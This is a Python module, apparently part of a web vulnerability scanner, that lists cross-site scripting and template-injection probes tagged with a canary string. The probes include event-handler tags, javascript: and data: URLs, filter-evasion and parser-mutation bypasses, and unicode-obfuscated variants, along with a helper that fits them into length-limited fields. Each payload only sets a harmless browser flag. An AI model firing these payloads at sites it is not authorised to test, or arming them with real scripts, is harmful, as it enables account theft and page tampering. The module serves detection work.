"""Texts that become part of a page where somebody forgot to escape them; all of them carry `MARK`."""

MARK = "zqma"
# What a live one sets in the browser.
RAN = "zqran"
_DO = f"window.{RAN}=1"
_ATTRIBUTE = f"{MARK}=1"

# The shortest first: small fields hold no others.
ELEMENTS = (
    f"<b {_ATTRIBUTE}>",
    f"</p><b {_ATTRIBUTE}>",
    f"<img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"<svg {_ATTRIBUTE} onload={_DO}>",
    f"<svg/{_ATTRIBUTE}/onload={_DO}//",
    f"<body {_ATTRIBUTE} onpageshow={_DO}>",
    f"<script {_ATTRIBUTE}>{_DO}</script>",
    f"<ScRiPt {_ATTRIBUTE}>{_DO}</sCrIpT>",
    f"<scr<script>ipt {_ATTRIBUTE}>{_DO}</scr</script>ipt>",
    f"<details open {_ATTRIBUTE} ontoggle={_DO}>",
    f"<input autofocus {_ATTRIBUTE} onfocus={_DO}>",
    f"<iframe {_ATTRIBUTE} srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<video {_ATTRIBUTE}><source onerror={_DO}></video>",
    f"<marquee {_ATTRIBUTE} onstart={_DO}>",
    f"<style {_ATTRIBUTE}>@keyframes x{{}}</style><b style='animation-name:x' {_ATTRIBUTE} onanimationstart='{_DO}'>",
    f"<form {_ATTRIBUTE} action='javascript:{_DO}'><button {_ATTRIBUTE}>gửi</button></form>",
    f"<a {_ATTRIBUTE} href='javascript:{_DO}'>Khen thưởng</a>",
    f"<a {_ATTRIBUTE} href='jav&#x09;ascript:{_DO}'>Khen thưởng</a>",
    f"<base {_ATTRIBUTE} href='//la.example/'>",
    f"<meta {_ATTRIBUTE} http-equiv=refresh content='0;url=javascript:{_DO}'>",
    f"<object {_ATTRIBUTE} data='javascript:{_DO}'></object><embed {_ATTRIBUTE} src='javascript:{_DO}'>",
    f"<isindex {_ATTRIBUTE} onfocus={_DO} autofocus>",
    # Out of an attribute, out of an element of text, out of a script, out of a comment.
    f'" {_ATTRIBUTE} onfocus={_DO} autofocus x="',
    f"' {_ATTRIBUTE} onfocus={_DO} autofocus x='",
    f"` {_ATTRIBUTE} onfocus={_DO} autofocus `",
    f'"><img {_ATTRIBUTE} src=x onerror={_DO}>',
    f"'><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"</title><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"</textarea><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"</style></noscript></template><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"</script><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"--><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"]]><img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"<!--<script {_ATTRIBUTE}>",
    f'"}}];{_DO};[{{"',
    f"';{_DO};'",
    f"\\u003cimg {_ATTRIBUTE} src=x onerror={_DO}\\u003e",
    f"&lt;img {_ATTRIBUTE} src=x onerror={_DO}&gt;",
    # What a parser makes of it twice is not what it made once.
    f'<svg></p><style><a id="</style><img {_ATTRIBUTE} src=1 onerror={_DO}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img {_ATTRIBUTE} title="--&gt;&lt;img {_ATTRIBUTE}&gt;">',
    f'<noscript><p title="</noscript><img {_ATTRIBUTE} src=x onerror={_DO}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img {_ATTRIBUTE} src onerror={_DO}>",
    # Letters with marks of their own, and signs that some turn into others.
    f"Kh\u0065\u0302\u0309n<img {_ATTRIBUTE} src=x onerror={_DO}>thưởng",
    f"\u0301<\u0323img {_ATTRIBUTE} src=x onerror={_DO}>",
    f"\uff1cimg {_ATTRIBUTE} src=x onerror={_DO}\uff1e",
    f"<img\u00a0{_ATTRIBUTE}\u200bsrc=x\u2028onerror={_DO}>",
    # Templates.
    f"{MARK}{{{{7*7}}}}{MARK}${{7*7}}{MARK}",
    f"{MARK}{{% if 1 %}}49{{% endif %}}{MARK}",
)
COMPUTED = (f"{MARK}49{MARK}",)
ADDRESSES = (
    f"javascript:{_DO}//{MARK}",
    f"JaVaScRiPt:{_DO}//{MARK}",
    f" javascript:{_DO}//{MARK}",
    f"java\tscript:{_DO}//{MARK}",
    f"\x01javascript:{_DO}//{MARK}",
    f"javascript://la.example/%0a{_DO}//{MARK}",
    f"javascript&colon;{_DO}//{MARK}",
    f"data:text/html,<script>{_DO}//{MARK}</script>",
    f"vbscript:{_DO}//{MARK}",
    f"//la.example/{MARK}",
    f'https://la.example/"{_ATTRIBUTE}',
    f"https://la.example/'{_ATTRIBUTE} x='",
)


def filled(most: int | None, turn: int) -> str:
    """As many as there is room for, beginning with another one at each `turn`; one that is live shows all the same."""
    start = turn % len(ELEMENTS)
    chosen = ""
    for payload in (*ELEMENTS[start:], *ELEMENTS[:start]):
        if most is None or len(chosen) + len(payload) + 1 <= most:
            chosen += f" {payload}"
    return chosen.strip() or MARK[: most or None]
